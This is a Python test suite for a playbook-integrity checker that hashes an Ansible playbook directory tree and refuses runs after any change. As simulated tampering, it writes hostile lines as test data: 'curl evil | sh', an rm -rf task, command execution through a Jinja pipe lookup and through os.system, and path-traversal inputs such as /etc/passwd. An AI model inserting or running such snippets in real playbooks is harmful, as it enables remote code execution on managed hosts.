"""Playbook files on disk: only from the playbook directory, only as registered — the whole
directory tree, not just the top file — and only what passes Ansible's syntax check."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from core.errors import InvalidInput, PlaybookChanged
from core.playbook_files import (
    compare_manifests,
    file_sha256,
    manifest_details,
    manifest_from_details,
    manifest_sha256,
    playbook_sha256,
    resolve_playbook_path,
    syntax_check,
    tree_manifest,
    verify_unchanged,
)
from db.models import Playbook

PLAY = "- hosts: all\n  gather_facts: false\n  tasks:\n    - ansible.builtin.ping:\n"


@pytest.fixture
def book_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "playbooks"
    directory.mkdir()
    (directory / "ping.yml").write_text(PLAY)
    return directory


def registered(directory: Path, name: str = "ping", file_path: str | None = None) -> Playbook:
    file_path = file_path or f"{name}.yml"
    return Playbook(name=name, file_path=file_path,
                    file_hash=playbook_sha256(directory, file_path))


def write(directory: Path, relative: str, text: str) -> Path:
    path = directory / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_file_sha256_is_the_hex_digest_of_the_whole_file(tmp_path):
    path = tmp_path / "big.yml"
    content = b"x" * 200_000 + b"end"
    path.write_bytes(content)

    assert file_sha256(path) == hashlib.sha256(content).hexdigest()


def test_a_relative_file_path_resolves_inside_the_playbook_directory(book_dir):
    assert resolve_playbook_path(book_dir, "ping.yml") == (book_dir / "ping.yml").resolve()


def test_an_absolute_path_inside_the_directory_is_accepted(book_dir):
    path = (book_dir / "ping.yml").resolve()

    assert resolve_playbook_path(book_dir, str(path)) == path


@pytest.mark.parametrize("file_path", ["../outside.yml", "/etc/passwd", "sub/../../x.yml", "."])
def test_paths_leaving_the_playbook_directory_are_refused(book_dir, file_path):
    with pytest.raises(PlaybookChanged, match="outside the playbook directory"):
        resolve_playbook_path(book_dir, file_path)


def test_a_symlink_pointing_out_of_the_directory_is_refused(book_dir, tmp_path):
    outside = tmp_path / "evil.yml"
    outside.write_text(PLAY)
    (book_dir / "evil.yml").symlink_to(outside)

    with pytest.raises(PlaybookChanged, match="outside the playbook directory"):
        resolve_playbook_path(book_dir, "evil.yml")


def test_a_symlink_inside_the_directory_resolves_to_its_target(book_dir):
    (book_dir / "alias.yml").symlink_to(book_dir / "ping.yml")

    assert resolve_playbook_path(book_dir, "alias.yml") == (book_dir / "ping.yml").resolve()


def test_an_empty_file_path_is_invalid_input(book_dir):
    with pytest.raises(InvalidInput):
        resolve_playbook_path(book_dir, "  ")


def test_an_unchanged_playbook_passes_and_gives_the_path_to_run(book_dir):
    book = registered(book_dir)

    assert verify_unchanged(book, book_dir) == (book_dir / "ping.yml").resolve()


def test_an_edited_playbook_is_refused_with_advice_to_sync(book_dir):
    book = registered(book_dir)
    (book_dir / "ping.yml").write_text(PLAY + "    - ansible.builtin.shell: rm -rf /tmp/x\n")

    with pytest.raises(PlaybookChanged) as error:
        verify_unchanged(book, book_dir)

    assert "`ping` changed on disk" in str(error.value)
    assert "playbot playbooks sync" in str(error.value)


def test_a_deleted_playbook_is_refused_as_missing(book_dir):
    book = registered(book_dir)
    (book_dir / "ping.yml").unlink()

    with pytest.raises(PlaybookChanged, match="missing") as error:
        verify_unchanged(book, book_dir)
    assert "playbot playbooks sync" in str(error.value)


def test_a_playbook_replaced_by_a_link_out_of_the_directory_is_refused(book_dir, tmp_path):
    book = registered(book_dir)
    outside = tmp_path / "ping.yml"
    outside.write_text(PLAY)  # same content, same hash: still refused
    (book_dir / "ping.yml").unlink()
    (book_dir / "ping.yml").symlink_to(outside)

    with pytest.raises(PlaybookChanged, match="outside the playbook directory"):
        verify_unchanged(book, book_dir)


def test_a_registration_pointing_outside_the_directory_is_refused(book_dir, tmp_path):
    (tmp_path / "other.yml").write_text(PLAY)
    book = Playbook(name="other", file_path="../other.yml",
                    file_hash=file_sha256(tmp_path / "other.yml"))

    with pytest.raises(PlaybookChanged, match="cannot run"):
        verify_unchanged(book, book_dir)


def test_a_directory_in_place_of_the_playbook_is_refused(book_dir):
    book = registered(book_dir)
    (book_dir / "ping.yml").unlink()
    (book_dir / "ping.yml").mkdir()

    with pytest.raises(PlaybookChanged, match="not a regular file"):
        verify_unchanged(book, book_dir)


# the whole tree ----------------------------------------------------------------------------


def test_the_manifest_holds_every_file_of_the_tree_by_relative_path(book_dir):
    role = write(book_dir, "roles/foo/tasks/main.yml", "- ansible.builtin.ping:\n")
    write(book_dir, "filter_plugins/mine.py", "class FilterModule: pass\n")

    manifest = tree_manifest(book_dir)

    assert sorted(manifest) == ["filter_plugins/mine.py", "ping.yml", "roles/foo/tasks/main.yml"]
    assert manifest["roles/foo/tasks/main.yml"] == file_sha256(role)


def test_version_control_directories_are_left_out_but_python_caches_are_not(book_dir):
    write(book_dir, ".git/HEAD", "ref: refs/heads/main\n")
    write(book_dir, "filter_plugins/__pycache__/mine.cpython-311.pyc", "bytecode")

    manifest = tree_manifest(book_dir)

    assert not any(path.startswith(".git/") for path in manifest)
    assert "filter_plugins/__pycache__/mine.cpython-311.pyc" in manifest


def test_links_are_followed_and_dangling_ones_and_fifos_are_recorded_unread(book_dir, tmp_path):
    outside = write(tmp_path, "shared/common.yml", "- ansible.builtin.ping:\n")
    (book_dir / "common.yml").symlink_to(outside)
    (book_dir / "gone.yml").symlink_to(tmp_path / "nothing.yml")
    (book_dir / "loop").symlink_to(book_dir)
    os.mkfifo(book_dir / "pipe")

    manifest = tree_manifest(book_dir)

    assert manifest["common.yml"] == file_sha256(outside)
    assert manifest["gone.yml"].startswith("link-dangling:")
    assert manifest["loop"].startswith("link-loop:")
    assert manifest["pipe"] == "special:fifo"


def test_the_hash_does_not_depend_on_the_order_files_were_written(tmp_path):
    first, second = tmp_path / "a", tmp_path / "b"
    for directory, names in ((first, ["ping.yml", "x/y.yml", "x/z.yml"]),
                             (second, ["x/z.yml", "x/y.yml", "ping.yml"])):
        for name in names:
            write(directory, name, f"# {name}\n")

    assert playbook_sha256(first, "ping.yml") == playbook_sha256(second, "ping.yml")


def test_two_playbooks_of_one_tree_have_different_hashes_that_both_follow_the_tree(book_dir):
    write(book_dir, "other.yml", PLAY)
    before = (playbook_sha256(book_dir, "ping.yml"), playbook_sha256(book_dir, "other.yml"))

    write(book_dir, "vars/common.yml", "x: 1\n")

    assert before[0] != before[1]
    assert playbook_sha256(book_dir, "ping.yml") != before[0]
    assert playbook_sha256(book_dir, "other.yml") != before[1]


def test_an_edit_to_a_role_is_refused_though_the_top_file_is_unchanged(book_dir):
    write(book_dir, "roles/foo/tasks/main.yml", "- ansible.builtin.ping:\n")
    book = registered(book_dir)
    write(book_dir, "roles/foo/tasks/main.yml",
          "- ansible.builtin.ping:\n- ansible.builtin.shell: curl evil | sh\n")

    with pytest.raises(PlaybookChanged) as error:
        verify_unchanged(book, book_dir)

    assert "`ping` changed on disk" in str(error.value)
    assert "playbot playbooks sync" in str(error.value)


@pytest.mark.parametrize("change", ["add", "remove", "template", "plugin", "vars", "sibling"])
def test_any_file_added_removed_or_edited_anywhere_in_the_tree_is_refused(book_dir, change):
    write(book_dir, "templates/app.conf.j2", "port={{ port }}\n")
    write(book_dir, "filter_plugins/mine.py", "class FilterModule: pass\n")
    write(book_dir, "group_vars/all.yml", "port: 80\n")
    write(book_dir, "other.yml", PLAY)
    book = registered(book_dir)
    if change == "add":
        write(book_dir, "roles/new/tasks/main.yml", "- ansible.builtin.ping:\n")
    elif change == "remove":
        (book_dir / "group_vars/all.yml").unlink()
    elif change == "template":
        write(book_dir, "templates/app.conf.j2", "port={{ lookup('pipe', 'id') }}\n")
    elif change == "plugin":
        write(book_dir, "filter_plugins/mine.py", "import os; os.system('id')\n")
    elif change == "vars":
        write(book_dir, "group_vars/all.yml", "port: 8080\n")
    else:
        write(book_dir, "other.yml", PLAY + "    - ansible.builtin.shell: id\n")

    with pytest.raises(PlaybookChanged, match="changed on disk"):
        verify_unchanged(book, book_dir)


def test_an_edit_that_restores_size_and_mtime_is_still_seen(book_dir):
    role = write(book_dir, "roles/foo/tasks/main.yml", "- ansible.builtin.ping: {}\n")
    book = registered(book_dir)
    verify_unchanged(book, book_dir)  # the digest is now cached
    stat = role.stat()

    role.write_text("- ansible.builtin.shell: id\n")  # same length
    os.utime(role, ns=(stat.st_atime_ns, stat.st_mtime_ns))

    with pytest.raises(PlaybookChanged):
        verify_unchanged(book, book_dir)


def test_a_registration_of_the_top_file_alone_is_refused_with_the_reason(book_dir):
    book = Playbook(name="ping", file_path="ping.yml", file_hash=file_sha256(book_dir / "ping.yml"))

    with pytest.raises(PlaybookChanged, match="registered before Playbot covered the whole"):
        verify_unchanged(book, book_dir)


def test_changes_between_manifests_are_named_modified_first():
    before = {"a.yml": "1", "b.yml": "2", "c.yml": "3"}
    after = {"a.yml": "1", "b.yml": "9", "d.yml": "4"}

    changes = compare_manifests(before, after)

    assert (changes.added, changes.removed, changes.modified) == (["d.yml"], ["c.yml"], ["b.yml"])
    assert changes.describe() == "modified b.yml, added d.yml, removed c.yml"
    assert changes.describe(limit=1) == "modified b.yml and 2 more files"


def test_a_manifest_survives_the_audit_sanitizer_and_an_altered_one_is_not_trusted(book_dir):
    from core.audit import sanitize

    for n in range(120):
        write(book_dir, f"roles/r{n}/tasks/main.yml", f"# {n}\n")
    manifest = tree_manifest(book_dir)

    kept = sanitize(manifest_details(manifest))

    assert manifest_from_details(kept) == manifest
    kept["manifest"][0][0] = "0" * 64 + " ping.yml"
    assert manifest_from_details(kept) is None


def test_a_manifest_too_large_for_the_audit_row_is_kept_by_its_hash_only():
    manifest = {f"f{n}.yml": "0" * 64 for n in range(2501)}

    details = manifest_details(manifest)

    assert "manifest" not in details and details["tree_sha256"] == manifest_sha256(manifest)
    assert manifest_from_details(details) is None


# Ansible's syntax check (the real ansible-playbook) ------------------------------------------


def test_a_valid_playbook_passes_the_syntax_check(book_dir):
    assert syntax_check(book_dir, ["ping.yml"]) == {}


def test_a_syntax_error_is_reported_with_ansibles_message_for_that_playbook_only(book_dir):
    write(book_dir, "bad.yml", "- hosts: all\n  tasks:\n    - ansible.builtin.ping:\n"
                               "      bogus_key: 1\n")

    failures = syntax_check(book_dir, ["ping.yml", "bad.yml"])

    assert list(failures) == ["bad.yml"]
    assert "conflicting action statements" in failures["bad.yml"]
    assert str(book_dir) not in failures["bad.yml"]


def test_a_missing_role_fails_the_syntax_check(book_dir):
    write(book_dir, "roles.yml", "- hosts: all\n  roles: [nowhere]\n")

    failures = syntax_check(book_dir, ["roles.yml"])

    assert "the role 'nowhere' was not found" in failures["roles.yml"]


def test_the_syntax_check_never_prompts_and_never_writes_into_the_tree(book_dir):
    write(book_dir, "prompt.yml", "- hosts: all\n  vars_prompt:\n    - name: version\n"
                                  "      prompt: Which?\n  tasks:\n    - ansible.builtin.ping:\n")
    write(book_dir, "filter_plugins/mine.py",
          "class FilterModule:\n    def filters(self):\n        return {}\n")
    before = tree_manifest(book_dir)

    assert syntax_check(book_dir, ["prompt.yml"], timeout=60) == {}
    assert tree_manifest(book_dir) == before
